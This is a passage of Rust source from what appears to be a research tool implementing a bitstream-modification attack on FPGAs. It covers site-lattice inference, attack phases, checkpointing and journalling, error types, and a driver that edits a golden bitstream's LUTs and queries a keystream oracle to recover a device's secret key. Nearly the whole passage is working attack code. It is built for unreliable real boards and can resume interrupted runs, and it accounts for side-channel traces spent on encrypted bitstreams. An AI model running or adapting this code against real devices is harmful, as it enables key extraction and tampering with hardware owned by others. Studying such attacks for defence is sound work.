    /// (SLICEL/SLICEM column alternation); `None` when inconsistent.
    pub(crate) order_of_group: [Option<bitstream::SubVectorOrder>; 2],
}

impl SiteLattice {
    /// Infers the lattice from verified LUT hits. Returns a
    /// permissive lattice when the samples are inconsistent.
    #[must_use]
    pub fn infer(samples: &[(usize, bitstream::SubVectorOrder)], d: usize) -> Self {
        fn gcd(a: usize, b: usize) -> usize {
            if b == 0 {
                a
            } else {
                gcd(b, a % b)
            }
        }
        let permissive =
            Self { parity: None, modulus: 1, residue: 0, d, order_of_group: [None, None] };
        if samples.is_empty() {
            return permissive;
        }
        // Majority-vote parity (≥ 80% decisive), mirroring the
        // frame-modulus handling below: a single misaligned window
        // that verified by coincidence must not disable the whole
        // lattice.
        let even = samples.iter().filter(|(l, _)| l % 2 == 0).count();
        let odd = samples.len() - even;
        let parity = if even * 5 >= samples.len() * 4 {
            Some(0)
        } else if odd * 5 >= samples.len() * 4 {
            Some(1)
        } else {
            None
        };
        // Off-parity samples are outliers; exclude them from stride
        // and order inference.
        let samples: Vec<(usize, bitstream::SubVectorOrder)> =
            samples.iter().copied().filter(|(l, _)| parity.is_none_or(|p| l % 2 == p)).collect();
        let samples = &samples[..];
        let Some(&(first, _)) = samples.first() else { return permissive };
        let f0 = first / d;
        let base = samples.iter().fold(0usize, |g, &(l, _)| gcd(g, (l / d).abs_diff(f0)));
        if base == 0 {
            // All samples in one frame group: no stride information.
            return Self { parity, modulus: 1, residue: 0, d, order_of_group: [None, None] };
        }
        // A few samples may be misaligned windows that verified by
        // coincidence; take the largest multiple of the raw gcd whose
        // dominant residue class covers ≥ 80% of the samples.
        let mut modulus = base.max(1);
        for factor in [8usize, 4, 2] {
            let g = base.max(1) * factor;
            let mut counts: std::collections::HashMap<usize, usize> =
                std::collections::HashMap::new();
            for &(l, _) in samples {
                *counts.entry((l / d) % g).or_default() += 1;
            }
            let dominant = counts.values().copied().max().unwrap_or(0);
            if dominant * 5 >= samples.len() * 4 {
                modulus = g;
                break;
            }
        }
        if modulus <= 1 {
            return Self { parity, modulus: 1, residue: 0, d, order_of_group: [None, None] };
        }
        // Dominant residue (not necessarily the first sample's).
        let mut counts: std::collections::HashMap<usize, usize> = std::collections::HashMap::new();
        for &(l, _) in samples {
            *counts.entry((l / d) % modulus).or_default() += 1;
        }
        let residue = counts
            .into_iter()
            .max_by_key(|&(r, c)| (c, std::cmp::Reverse(r)))
            .map_or(f0 % modulus, |(r, _)| r);
        // Order inference restricted to on-lattice samples.
        let samples: Vec<(usize, bitstream::SubVectorOrder)> =
            samples.iter().copied().filter(|(l, _)| (l / d) % modulus == residue).collect();
        let samples = &samples[..];
        // Learn the slice-type alternation by majority vote: which
        // sub-vector order appears in even vs odd column groups. A
        // few samples may carry the wrong order (an f2 permutation
        // can coincidentally match the other order's decoding, and
        // the constant-0 verification write is order-invariant), so
        // strict consistency is too brittle.
        let mut votes = [[0usize; 2]; 2];
        for &(l, order) in samples {
            let group = (l / d / modulus) % 2;
            let o = usize::from(order == bitstream::SubVectorOrder::SliceM);
            votes[group][o] += 1;
        }
        // Use a group's majority order only when it is decisive
        // (≥ 80%): some device families do not alternate slice types
        // at this granularity, and a wrong prediction would discard
        // real candidates.
        let order_of_group = votes.map(|v| {
            let total = v[0] + v[1];
            if total == 0 {
                None
            } else if v[0] * 5 >= total * 4 {
                Some(bitstream::SubVectorOrder::SliceL)
            } else if v[1] * 5 >= total * 4 {
                Some(bitstream::SubVectorOrder::SliceM)
            } else {
                None
            }
        });
        Self { parity, modulus, residue, d, order_of_group }
    }

    /// Whether a candidate byte offset lies on the lattice.
    #[must_use]
    pub fn accepts(&self, l: usize) -> bool {
        self.parity.is_none_or(|p| l % 2 == p) && (l / self.d) % self.modulus == self.residue
    }

    /// Whether a hit's sub-vector order matches the slice type
    /// expected at its column.
    #[must_use]
    pub fn accepts_order(&self, l: usize, order: bitstream::SubVectorOrder) -> bool {
        if self.modulus <= 1 {
            return true;
        }
        let group = (l / self.d / self.modulus) % 2;
        self.order_of_group[group].is_none_or(|o| o == order)
    }

    /// Combined position + order acceptance.
    #[must_use]
    pub fn accepts_hit(&self, hit: &LutHit) -> bool {
        self.accepts(hit.l) && self.accepts_order(hit.l, hit.order)
    }

    /// The order the lattice predicts for a site, if learned.
    #[must_use]
    pub fn expected_order(&self, l: usize) -> Option<bitstream::SubVectorOrder> {
        if self.modulus <= 1 {
            return None;
        }
        self.order_of_group[(l / self.d / self.modulus) % 2]
    }
}

/// A hypothesised feedback-path LUT (`LUT₂`/`LUT₃` analog).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FeedbackLut {
    /// Which catalogue shape matched.
    pub shape: &'static str,
    /// The bitstream location.
    pub hit: LutHit,
}

/// An identified load-multiplexer half (stages `s0..s14`).
///
/// Which of the two pins is the load control and which is the
/// shift-in never needs to be resolved: the `β` edit replaces
/// `x ∨ y` by `x ∧ y`, which loads 0 in the first cycle (the shift-in
/// is still at its power-up value 0) and then holds 0 — exactly the
/// behaviour an all-zero LFSR needs in the key-independent
/// configuration, under either pin assignment.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LoadMuxHalf {
    /// The bitstream location of the hosting LUT.
    pub hit: LutHit,
    /// Which half (0 = O5, 1 = O6).
    pub half: u8,
    /// The two support pins of the `x ∨ y` half.
    pub pins: (u8, u8),
}

/// How far the attack progressed (checkpoint granularity).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum AttackPhase {
    /// Phase 1: FINDLUT candidate search (no oracle queries).
    CandidateSearch,
    /// Phase 2: keystream-path verification.
    ZPathVerification,
    /// Phase 3: feedback-path hypothesis.
    FeedbackHypothesis,
    /// Phase 4: key-independent configuration.
    KeyIndependent,
    /// Phase 5: pair disambiguation.
    PairDisambiguation,
    /// Phase 6: α injection and key extraction.
    KeyExtraction,
}

impl fmt::Display for AttackPhase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            AttackPhase::CandidateSearch => "candidate search",
            AttackPhase::ZPathVerification => "keystream-path verification",
            AttackPhase::FeedbackHypothesis => "feedback-path hypothesis",
            AttackPhase::KeyIndependent => "key-independent configuration",
            AttackPhase::PairDisambiguation => "pair disambiguation",
            AttackPhase::KeyExtraction => "key extraction",
        };
        f.write_str(name)
    }
}

/// A structured partial result: everything verified before the
/// oracle budget ran out. A later run can skip re-verifying these
/// findings (the whole point of surviving a flaky board with a
/// metered configuration port).
///
/// The `pass`/`cursor` fields pin the exact loop position the attack
/// had reached, so a journalled checkpoint resumes *mid-phase*: the
/// phases iterate deterministic item lists (candidate hits, drop
/// sets, f2 variants), and a resumed run continues at `cursor` with
/// the restored RNG states, replaying the identical query trace an
/// uninterrupted run would have produced.
#[derive(Debug, Clone, PartialEq)]
pub struct AttackCheckpoint {
    /// The phase the attack was executing when it stopped.
    pub phase: AttackPhase,
    /// The pass within the phase (phases 2 and 4 run two passes; all
    /// others a single pass 0).
    pub pass: u8,
    /// Items of the current pass's deterministic work list consumed.
    pub cursor: usize,
    /// Physical oracle attempts spent.
    pub oracle_attempts: u64,
    /// Candidates discarded because editing them did not change the
    /// keystream (dead configuration bytes / false positives).
    pub dead_candidates: u64,
    /// Raw FINDLUT match counts (phase 1; oracle-free, always
    /// present).
    pub candidate_counts: Vec<(&'static str, usize)>,
    /// The golden keystream read at attack setup (resume skips the
    /// initial golden query).
    pub golden_keystream: Vec<u32>,
    /// Phase 2 first-pass verifications (pre-lattice; kept for
    /// forensics — the lattice was inferred from these positions).
    pub z_pass1: Vec<ZPathLut>,
    /// Keystream-path LUTs verified so far (current pass).
    pub z_luts: Vec<ZPathLut>,
    /// Feedback-path LUTs surviving pruning so far.
    pub feedback_luts: Vec<FeedbackLut>,
    /// The site lattice, once inferred (end of phase 2 pass 0).
    pub lattice: Option<SiteLattice>,
    /// γ=1 load-mux halves located so far (phase 4 pass 0).
    pub mux_halves: Vec<LoadMuxHalf>,
    /// Phase 5 stuck-bit masks, one per completed f2 variant.
    pub stuck_masks: Vec<u32>,
}

impl AttackCheckpoint {
    pub(crate) fn new() -> Self {
        Self {
            phase: AttackPhase::CandidateSearch,
            pass: 0,
            cursor: 0,
            oracle_attempts: 0,
            dead_candidates: 0,
            candidate_counts: Vec::new(),
            golden_keystream: Vec::new(),
            z_pass1: Vec::new(),
            z_luts: Vec::new(),
            feedback_luts: Vec::new(),
            lattice: None,
            mux_halves: Vec::new(),
            stuck_masks: Vec::new(),
        }
    }
}

impl fmt::Display for AttackCheckpoint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "stopped during {} (pass {}, item {}): {} z-path LUTs, {} feedback LUTs, \
             lattice {}, {} attempts spent",
            self.phase,
            self.pass,
            self.cursor,
            self.z_luts.len(),
            self.feedback_luts.len(),
            if self.lattice.is_some() { "inferred" } else { "unknown" },
            self.oracle_attempts
        )
    }
}

/// The attack's findings and effort metrics.
#[derive(Debug, Clone)]
pub struct AttackReport {
    /// Raw FINDLUT match counts per catalogue shape (the Table II
    /// analog).
    pub candidate_counts: Vec<(&'static str, usize)>,
    /// Verified keystream-path LUTs.
    pub z_luts: Vec<ZPathLut>,
    /// Hypothesised feedback-path LUTs (validated jointly by the
    /// key-independent keystream).
    pub feedback_luts: Vec<FeedbackLut>,
    /// γ=1 load-mux halves that received the `β` edit.
    pub beta_edits: usize,
    /// Candidates discarded because editing them did not change the
    /// keystream (dead configuration bytes / false positives).
    pub dead_candidates: usize,
    /// The key-independent keystream observed (must equal Table III).
    pub key_independent_keystream: Vec<u32>,
    /// The final faulty keystream (Table IV; equals LFSR state S³³).
    pub alpha_keystream: Vec<u32>,
    /// The final α-faulted bitstream that produced it (diff against
    /// the golden bitstream to see exactly which bytes the attack
    /// rewrote).
    pub alpha_bitstream: Bitstream,
    /// The recovered secrets (Table V and the key).
    pub recovered: RecoveredSecret,
    /// Number of device configurations the attack performed
    /// (physical attempts, including retries and majority-vote
    /// re-reads).
    pub oracle_loads: usize,
    /// Resilience-layer effort counters (retries, votes, backoff).
    pub resilience: ResilientStats,
}

/// An error aborting the attack.
#[derive(Debug)]
pub enum AttackError {
    /// The bitstream has no FDRI payload to search.
    NoFdriPayload,
    /// The device refused a bitstream the attack expected to load.
    Oracle(OracleError),
    /// Fewer than 32 keystream-path LUTs were verified.
    ZPathIncomplete {
        /// Bits covered by verified LUTs.
        bits_found: u32,
    },
    /// No combination of load-mux hypotheses produced the
    /// key-independent keystream.
    KeyIndependentMismatch,
    /// A keystream bit's XOR pair could not be resolved.
    PairUnresolved {
        /// The offending keystream bit.
        bit: u8,
    },
    /// LFSR reversal failed on the final faulty keystream.
    Recover(RecoverKeyError),
    /// The candidate scan could not be configured (e.g. zero stride).
    Config(ScanConfigError),
    /// The resilience layer gave up (retries exhausted or a fatal
    /// oracle error behind the retry loop).
    Resilience(ResilienceError),
    /// The crash-safe journal could not be written, read or matched
    /// against this run's configuration.
    Journal(crate::journal::JournalError),
    /// The oracle-query budget (or virtual-clock deadline) ran out
    /// mid-run. Carries everything verified so far as a structured
    /// partial result.
    Exhausted {
        /// Findings accumulated before the budget ran out.
        checkpoint: Box<AttackCheckpoint>,
        /// The underlying budget failure.
        source: ResilienceError,
    },
}

impl fmt::Display for AttackError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AttackError::NoFdriPayload => write!(f, "bitstream has no FDRI payload"),
            AttackError::Oracle(e) => write!(f, "oracle failure: {e}"),
            AttackError::ZPathIncomplete { bits_found } => {
                write!(f, "only {bits_found} keystream bits covered by verified LUTs")
            }
            AttackError::KeyIndependentMismatch => {
                write!(f, "no hypothesis produced the key-independent keystream")
            }
            AttackError::PairUnresolved { bit } => {
                write!(f, "could not resolve the v input pair for keystream bit {bit}")
            }
            AttackError::Recover(e) => write!(f, "key recovery failed: {e}"),
            AttackError::Config(e) => write!(f, "invalid scan configuration: {e}"),
            AttackError::Resilience(e) => write!(f, "oracle resilience failure: {e}"),
            AttackError::Journal(e) => write!(f, "attack journal failure: {e}"),
            AttackError::Exhausted { checkpoint, source } => {
                write!(f, "{source}; partial result: {checkpoint}")
            }
        }
    }
}

impl std::error::Error for AttackError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            AttackError::Oracle(e) => Some(e),
            AttackError::Recover(e) => Some(e),
            AttackError::Config(e) => Some(e),
            AttackError::Resilience(e) => Some(e),
            AttackError::Journal(e) => Some(e),
            AttackError::Exhausted { source, .. } => Some(source),
            _ => None,
        }
    }
}

impl From<ResilienceError> for AttackError {
    fn from(e: ResilienceError) -> Self {
        match e {
            // A fatal (non-transient, non-budget) rejection is the
            // device speaking, not the resilience layer: keep the
            // pre-resilience `Oracle` contract for it.
            ResilienceError::Fatal(e) => AttackError::Oracle(e),
            other => AttackError::Resilience(other),
        }
    }
}

impl From<OracleError> for AttackError {
    fn from(e: OracleError) -> Self {
        AttackError::Oracle(e)
    }
}

impl From<RecoverKeyError> for AttackError {
    fn from(e: RecoverKeyError) -> Self {
        AttackError::Recover(e)
    }
}

impl From<ScanConfigError> for AttackError {
    fn from(e: ScanConfigError) -> Self {
        AttackError::Config(e)
    }
}

impl From<crate::journal::JournalError> for AttackError {
    fn from(e: crate::journal::JournalError) -> Self {
        AttackError::Journal(e)
    }
}

/// The attack driver.
pub struct Attack<'a> {
    oracle: ResilientOracle<'a>,
    golden: Bitstream,
    golden_crc: u32,
    payload: Vec<u8>,
    d: usize,
    words: usize,
    /// Maximum queries issued per oracle batch (1 = serial).
    batch: usize,
    forge: GoldenForge,
    catalogue: Catalogue,
    golden_keystream: Vec<u32>,
    checkpoint: AttackCheckpoint,
    journal: Option<crate::journal::AttackJournal>,
    telemetry: Telemetry,
    /// Side-channel traces the encrypted path spent recovering `K_E`
    /// (0 on plaintext runs); journalled so a resumed encrypted
    /// session reports identical SCA accounting.
    sca_traces: u32,
}

impl fmt::Debug for Attack<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "Attack(payload: {} bytes, d: {}, w: {}, loads so far: {})",
            self.payload.len(),
            self.d,
            self.words,
            self.oracle.stats().attempts
        )
    }
}

impl<'a> Attack<'a> {
    /// Prepares the attack against a device and its extracted
    /// bitstream. `d` defaults to one frame (the device family
    /// parameter of Section V-A).
    ///
    /// # Errors
    ///
    /// Fails if the bitstream has no FDRI payload or the device
    /// rejects the golden bitstream.
    pub fn new(oracle: &'a dyn KeystreamOracle, golden: Bitstream) -> Result<Self, AttackError> {
        #[allow(deprecated)]
        Self::with_stride(oracle, golden, FRAME_BYTES)
    }

    /// Like [`Attack::new`] but for a device family with a different
    /// sub-vector stride `d` (the paper's tool used `d = 101` bytes).
    ///
    /// # Errors
    ///
    /// Same as [`Attack::new`].
    #[deprecated(
        since = "0.7.0",
        note = "configure the stride on the session facade instead: \
                fleet::SessionSpec::builder().stride(d) … and run via \
                SessionSpec::run_local / run_against"
    )]
    pub fn with_stride(
        oracle: &'a dyn KeystreamOracle,
        golden: Bitstream,
        d: usize,
    ) -> Result<Self, AttackError> {
        #[allow(deprecated)]
        Self::with_resilience(oracle, golden, d, ResilienceConfig::off())
    }

    /// Like [`Attack::with_stride`] but with a resilience layer
    /// between the attack and the oracle — for unreliable boards
    /// (retry transient load failures, majority-vote keystream reads,
    /// meter the total number of device configurations).
    ///
    /// # Errors
    ///
    /// Same as [`Attack::new`], plus [`AttackError::Resilience`] /
    /// [`AttackError::Exhausted`] if even the initial golden read
    /// does not survive the configured policy.
    #[deprecated(
        since = "0.7.0",
        note = "the resilience policy is derived from the validated session \
                spec now: fleet::SessionSpec::builder().noisy(true).votes(v) \
                .budget(b) … and run via SessionSpec::run_local / run_against"
    )]
    pub fn with_resilience(
        oracle: &'a dyn KeystreamOracle,
        golden: Bitstream,
        d: usize,
        config: ResilienceConfig,
    ) -> Result<Self, AttackError> {
        #[allow(deprecated)]
        Self::instrumented(oracle, golden, d, config, Telemetry::off())
    }

    /// Like [`Attack::with_resilience`] but with a telemetry recorder
    /// installed *before* the initial golden query, so the trace
    /// meters every oracle interaction the attack performs. Telemetry
    /// is inert: the query trace is bit-identical with recording on
    /// or off.
    ///
    /// # Errors
    ///
    /// Same as [`Attack::with_resilience`].
    #[deprecated(
        since = "0.7.0",
        note = "use the session facade — fleet::SessionSpec::run_against wires \
                the supervised oracle, resilience config, telemetry, journal \
                and batch width from one validated spec"
    )]
    pub fn instrumented(
        oracle: &'a dyn KeystreamOracle,
        golden: Bitstream,
        d: usize,
        config: ResilienceConfig,
        telemetry: Telemetry,
    ) -> Result<Self, AttackError> {
        let range = golden.fdri_data_range().ok_or(AttackError::NoFdriPayload)?;
        let payload = golden.as_bytes()[range].to_vec();
        let golden_crc = bitstream::crc::ByteCrc::of(golden.as_bytes());
        let forge = GoldenForge::new(&golden, d);
        let mut resilient = ResilientOracle::new(oracle, config);
        resilient.set_telemetry(telemetry.clone());
        let mut attack = Self {
            oracle: resilient,
            golden,
            golden_crc,
            payload,
            d,
            words: 16,
            batch: 1,
            forge,
            catalogue: Catalogue::full(),
            golden_keystream: Vec::new(),
            checkpoint: AttackCheckpoint::new(),
            journal: None,
            telemetry,
            sca_traces: 0,
        };
        attack.golden_keystream = attack.run_oracle(&attack.golden.clone())?;
        attack.checkpoint.golden_keystream = attack.golden_keystream.clone();
        Ok(attack)
    }

    /// Sets the oracle batch width: phases with a precomputable work
    /// list (keystream-path verification, feedback hypothesis, pair
    /// disambiguation) issue up to `batch` queries per oracle call,
    /// exploiting a batched substrate such as the 64-lane gang
    /// simulator. `batch ≤ 1` keeps the serial query loop. Batched
    /// and serial runs recover the same key from identical per-query
    /// keystreams with identical load accounting (pinned by the
    /// batch-equivalence tests); batching changes throughput and
    /// journal write cadence only (one write per batch instead of one
    /// per item).
    #[must_use]
    pub fn with_batch(mut self, batch: usize) -> Self {
        self.batch = batch.max(1);
        self
    }

    /// Installs a telemetry recorder on an already-built attack (the
    /// resume path: [`Attack::resume`] cannot take it up front).
    /// Recording starts from this call; queries already performed are
    /// not retrofitted.
    #[must_use]
    pub fn with_telemetry(mut self, telemetry: Telemetry) -> Self {
        self.oracle.set_telemetry(telemetry.clone());
        self.telemetry = telemetry;
        self
    }

    /// Attaches a crash-safe journal: from here on, every completed
    /// work item persists the checkpoint (plus the RNG/clock states
    /// of the resilience layer and the board) atomically to disk, and
    /// a killed process can continue with [`Attack::resume`].
    ///
    /// # Errors
    ///
    /// [`AttackError::Journal`] if the initial journal write fails.
    pub fn with_journal(
        mut self,
        journal: crate::journal::AttackJournal,
    ) -> Result<Self, AttackError> {
        self.journal = Some(journal);
        self.save_journal()?;
        Ok(self)
    }

    /// Rebuilds an in-flight attack from a journal written by a
    /// previous (killed) run, continuing with the configuration the
    /// journal recorded. The resumed run replays the identical query
    /// trace the uninterrupted run would have produced: the verified
    /// findings, loop cursors, jitter RNG, virtual clock and (for
    /// simulated boards) the device fault state are all restored.
    ///
    /// # Errors
    ///
    /// [`AttackError::Journal`] if the journal is unreadable,
    /// corrupt, or was recorded against a different golden bitstream;
    /// [`AttackError::Oracle`] if the oracle rejects the journalled
    /// device state.
    pub fn resume(
        oracle: &'a dyn KeystreamOracle,
        golden: Bitstream,
        journal: crate::journal::AttackJournal,
    ) -> Result<Self, AttackError> {
        let config = journal.load()?.config;
        Self::resume_with(oracle, golden, journal, config)
    }

    /// Like [`Attack::resume`] but with an overridden resilience
    /// configuration — for raising the budget or deadline of the
    /// resumed run. The override must drive the same noisy trace as
    /// the journalled run ([`ResilienceConfig::same_trace`]).
    ///
    /// # Errors
    ///
    /// Same as [`Attack::resume`], plus
    /// [`crate::journal::JournalError::ConfigMismatch`] (wrapped in
    /// [`AttackError::Journal`]) when `config` changes a
    /// trace-determining parameter.
    pub fn resume_with(
        oracle: &'a dyn KeystreamOracle,
        golden: Bitstream,
        journal: crate::journal::AttackJournal,
        config: ResilienceConfig,
    ) -> Result<Self, AttackError> {
        use crate::journal::JournalError;
        let doc = journal.load()?;
        if !config.same_trace(&doc.config) {
            return Err(JournalError::ConfigMismatch {
                journalled: Box::new(doc.config),
                requested: Box::new(config),
            }
            .into());
        }
        let golden_crc = bitstream::crc::ByteCrc::of(golden.as_bytes());
        if golden_crc != doc.golden_crc || golden.as_bytes().len() as u64 != doc.golden_len {
            return Err(JournalError::GoldenMismatch {
                journalled: doc.golden_crc,
                found: golden_crc,
            }
            .into());
        }
        if let Some(state) = &doc.oracle_state {
            oracle.restore_state(state).map_err(AttackError::Oracle)?;
        }
        let range = golden.fdri_data_range().ok_or(AttackError::NoFdriPayload)?;
        let payload = golden.as_bytes()[range].to_vec();
        let forge = GoldenForge::new(&golden, doc.d);
        Ok(Self {
            oracle: ResilientOracle::from_snapshot(oracle, config, &doc.resilient),
            golden,
            golden_crc,
            payload,
            d: doc.d,
            words: doc.words,
            batch: 1,
            forge,
            catalogue: Catalogue::full(),
            golden_keystream: doc.checkpoint.golden_keystream.clone(),
            checkpoint: doc.checkpoint,
            journal: Some(journal),
            telemetry: Telemetry::off(),
            sca_traces: doc.sca_traces,
        })
    }

    /// Records the side-channel effort of an encrypted run: `traces`
    /// is the number of power traces spent recovering `K_E` before
    /// the attack started. Persisted in the journal (format v3) and
    /// reported in telemetry, so a killed-and-resumed encrypted
    /// session replays identical SCA accounting.
    #[must_use]
    pub fn with_sca_traces(mut self, traces: u32) -> Self {
        self.sca_traces = traces;
        self.telemetry.incr(crate::telemetry::names::SCA_TRACES, u64::from(traces));
        self
    }

    /// Side-channel traces recorded for this run (0 on plaintext
    /// runs).
    #[must_use]
    pub fn sca_traces(&self) -> u32 {
        self.sca_traces
    }

    /// Persists the current checkpoint (no-op without a journal).
    fn save_journal(&mut self) -> Result<(), AttackError> {
        let Some(journal) = &self.journal else { return Ok(()) };
        self.checkpoint.oracle_attempts = self.oracle.stats().attempts;
        let doc = crate::journal::JournalDoc {
            config: *self.oracle.config(),
            d: self.d,
            words: self.words,
            golden_len: self.golden.as_bytes().len() as u64,
            golden_crc: self.golden_crc,
            resilient: self.oracle.snapshot(),
            oracle_state: self.oracle.inner().state_snapshot(),
            sca_traces: self.sca_traces,
            checkpoint: self.checkpoint.clone(),
        };
        let bytes = journal.save(&doc)?;
        self.telemetry.record_journal_write(bytes as u64);
        Ok(())
    }

    /// Moves the checkpoint to a new phase (pass 0, cursor 0) and
    /// persists it.
    fn advance_phase(&mut self, phase: AttackPhase) -> Result<(), AttackError> {
        self.checkpoint.phase = phase;
        self.checkpoint.pass = 0;
        self.checkpoint.cursor = 0;
        self.save_journal()
    }

    /// Moves the checkpoint to the next pass of the current phase and
    /// persists it.
    fn advance_pass(&mut self) -> Result<(), AttackError> {
        self.checkpoint.pass += 1;
        self.checkpoint.cursor = 0;
        self.save_journal()
    }

    /// Number of keystream words used per observation (the paper's
    /// `w`; default 16).
    #[must_use]
    pub fn words(&self) -> usize {
        self.words
    }

    /// The golden bitstream under attack.
    #[must_use]
    pub fn golden(&self) -> &Bitstream {
        &self.golden
    }

    /// The resilience configuration in force.
    #[must_use]
    pub fn resilience_config(&self) -> &ResilienceConfig {
        self.oracle.config()
    }

    /// Resilience-layer effort counters so far.
    #[must_use]
    pub fn resilience_stats(&self) -> ResilientStats {
        self.oracle.stats()
    }

    /// The single oracle chokepoint: every phase queries through the
    /// resilience layer here. Budget and deadline exhaustion are
    /// converted into a checkpointed partial result on the spot, so
    /// they carry whatever was verified up to the failing query.
    fn run_oracle(&mut self, bs: &Bitstream) -> Result<Vec<u32>, AttackError> {
        self.oracle.query(bs, self.words).map_err(|e| self.attack_error(e))
    }

    /// Converts a resilience-layer failure into an attack error,
    /// snapshotting the checkpoint for budget/deadline exhaustion.
    /// The caller must have `checkpoint.cursor` pointing at the work
    /// item whose query failed (matching where a serial run stops).
    fn attack_error(&self, e: ResilienceError) -> AttackError {
        match e {
            e @ (ResilienceError::BudgetExhausted { .. }
            | ResilienceError::DeadlineExceeded { .. }) => {
                let mut checkpoint = self.checkpoint.clone();
                checkpoint.oracle_attempts = self.oracle.stats().attempts;
                AttackError::Exhausted { checkpoint: Box::new(checkpoint), source: e }
            }
            e => e.into(),
        }
    }

    /// Re-expresses a hit under the sub-vector order the lattice
    /// predicts for its site, re-deriving the matching permutation.
    /// Hits that no longer match the candidate under the corrected
    /// order are returned unchanged.
    fn normalize_hit(
        &self,
        hit: &LutHit,
        shape_truth: TruthTable,
        lattice: &SiteLattice,
    ) -> LutHit {
        let Some(order) = lattice.expected_order(hit.l) else { return hit.clone() };
        if order == hit.order {
            return hit.clone();
        }
        let corrected =
            crate::findlut::rematch_at(&self.payload, hit.l, self.d, order, shape_truth);
        corrected.unwrap_or_else(|| hit.clone())
    }

    /// Runs the complete attack (or, for a resumed instance, the
    /// remainder of it: completed phases and items are skipped, and
    /// the restored RNG/clock states make the continuation replay the
    /// identical query trace an uninterrupted run would have).
    ///
    /// # Errors
    ///
    /// See [`AttackError`].
    pub fn run(mut self) -> Result<AttackReport, AttackError> {
        let _attack_span = self.telemetry.span("attack");
        // Phase 1: candidate search (Table II data) — the whole
        // catalogue in one pass over the payload. Oracle-free and
        // deterministic, so a resumed run recomputes it instead of
        // journalling the hit lists.
        let scan_span = self.telemetry.span("phase:candidate-search");
        let scanner = Scanner::builder().k(6).stride(self.d).catalogue(&self.catalogue).build()?;
        let grouped = scanner.scan_grouped(&self.payload);
        let mut hits_by_shape: HashMap<&'static str, Vec<LutHit>> = HashMap::new();
        let mut candidate_counts = Vec::new();
        for (shape, hits) in self.catalogue.shapes.iter().zip(grouped) {
            candidate_counts.push((shape.name, hits.len()));
            hits_by_shape.insert(shape.name, hits);
        }
        self.checkpoint.candidate_counts = candidate_counts.clone();
        self.telemetry.record_candidates(&candidate_counts);
        drop(scan_span);
        if self.checkpoint.phase == AttackPhase::CandidateSearch {
            self.advance_phase(AttackPhase::ZPathVerification)?;
        }

        let f2_hits = hits_by_shape.remove("f2").unwrap_or_default();
        let f2_truth = self.catalogue.shape("f2").expect("f2").truth;

        // Phase 2: verify the keystream path. A misaligned window
        // over two real LUTs can occasionally verify *instead of* a
        // true site (the true site is then skipped by the overlap
        // rule), so verification runs twice: the first pass's
        // positions reveal the site lattice (Section VII-B: "guess in
        // which frames LUTs are located ... and limit the search"),
        // and the second pass re-verifies with off-lattice candidates
        // removed.
        if self.checkpoint.phase == AttackPhase::ZPathVerification {
            let _span = self.telemetry.span("phase:z-path-verification");
            if self.checkpoint.pass == 0 {
                self.verify_z_path(&f2_hits, true)?;
                let lattice_span = self.telemetry.span("lattice-inference");
                let samples: Vec<(usize, bitstream::SubVectorOrder)> =
                    self.checkpoint.z_luts.iter().map(|z| (z.hit.l, z.hit.order)).collect();
                let lattice = SiteLattice::infer(&samples, self.d);
                drop(lattice_span);
                if std::env::var_os("BITMOD_DEBUG").is_some() {
                    eprintln!("[lattice] {lattice:?}");
                    eprintln!(
                        "[lattice] sample frames: {:?}",
                        samples.iter().map(|(l, o)| (l / self.d, *o)).collect::<Vec<_>>()
                    );
                }
                self.checkpoint.z_pass1 = std::mem::take(&mut self.checkpoint.z_luts);
                self.checkpoint.lattice = Some(lattice);
                self.advance_pass()?;
            }
            let lattice = self.checkpoint.lattice.clone().expect("lattice set at pass 0 → 1");
            let on_lattice: Vec<LutHit> =
                f2_hits.iter().filter(|h| lattice.accepts(h.l)).cloned().collect();
            self.verify_z_path(&on_lattice, false)?;
            let bits_found =
                self.checkpoint.z_luts.iter().map(|z| 1u32 << z.bit).fold(0u32, |a, b| a | b);
            if bits_found != u32::MAX {
                return Err(AttackError::ZPathIncomplete { bits_found: bits_found.count_ones() });
            }
            // Normalize verified hits to the lattice-predicted orders
            // so that subsequent permuted writes land on the right
            // bytes.
            let z_luts: Vec<ZPathLut> = std::mem::take(&mut self.checkpoint.z_luts)
                .into_iter()
                .map(|z| ZPathLut { hit: self.normalize_hit(&z.hit, f2_truth, &lattice), ..z })
                .collect();
            self.checkpoint.z_luts = z_luts;
            self.advance_phase(AttackPhase::FeedbackHypothesis)?;
        }

        let lattice =
            self.checkpoint.lattice.clone().expect("past phase 2, the lattice is inferred");

        // Phase 3: feedback-path hypothesis.
        if self.checkpoint.phase == AttackPhase::FeedbackHypothesis {
            let _span = self.telemetry.span("phase:feedback-hypothesis");
            self.feedback_hypothesis(&hits_by_shape, &lattice)?;
            self.advance_phase(AttackPhase::KeyIndependent)?;
        }

        // Phase 4: key-independent configuration (selects the true
        // 32-LUT feedback subset if there are surplus candidates).
        let m1b_hits: Vec<LutHit> = hits_by_shape
            .get("m1b")
            .cloned()
            .unwrap_or_default()
            .into_iter()
            .filter(|h| lattice.accepts_hit(h))
            .collect();
        let mut keyindep_bs = None;
        if self.checkpoint.phase == AttackPhase::KeyIndependent {
            let _span = self.telemetry.span("phase:key-independent");
            if self.checkpoint.pass == 0 {
                self.find_load_mux_halves(&lattice)?;
                if std::env::var_os("BITMOD_DEBUG").is_some() {
                    eprintln!(
                        "[keyindep] fb_candidates={} halves={} m1b_hits={}",
                        self.checkpoint.feedback_luts.len(),
                        self.checkpoint.mux_halves.len(),
                        m1b_hits.len()
                    );
                }
                self.advance_pass()?;
            }
            let (feedback, bs) = self.select_feedback_subset(&m1b_hits)?;
            self.checkpoint.feedback_luts = feedback;
            keyindep_bs = Some(bs);
            self.advance_phase(AttackPhase::PairDisambiguation)?;
        }
        // The key-independent keystream equals the attacker's public
        // software model by construction (phase 4 accepts nothing
        // else), and the β + α₁ bitstream rebuilds deterministically
        // from the journalled findings — neither needs journalling.
